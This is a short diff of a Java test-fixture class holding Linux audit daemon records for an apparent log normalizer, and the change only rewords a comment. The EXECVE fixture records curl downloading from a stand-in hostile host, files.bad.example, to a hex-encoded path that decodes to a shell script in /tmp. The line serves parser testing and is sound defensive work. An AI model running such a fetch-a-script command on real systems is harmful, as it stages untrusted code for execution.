@@ -3,7 +3,7 @@ package io.clicktrail.normalizer.linux;
 /** Events of the audit system as its daemon writes them, record by record. */
 public final class AuditFixtures {
 
-    /** A shell starts curl; 0x1D stands before what the daemon has enriched. */
+    /** A shell starts curl; 0x1D precedes what the daemon has added. */
     public static final String EXECVE = """
             node=lin-7.corp.example type=SYSCALL msg=audit(1772445605.701:4711): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=2176 pid=2221 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=8 comm="curl" exe="/usr/bin/curl" subj=unconfined key="exec"\u001dARCH=x86_64 SYSCALL=execve AUID="ada" UID="ada" GID="ada" EUID="ada"
             node=lin-7.corp.example type=EXECVE msg=audit(1772445605.701:4711): argc=4 a0="curl" a1="-o" a2=2F746D702F6D79207265706F72742E7368 a3="https://files.bad.example/a"
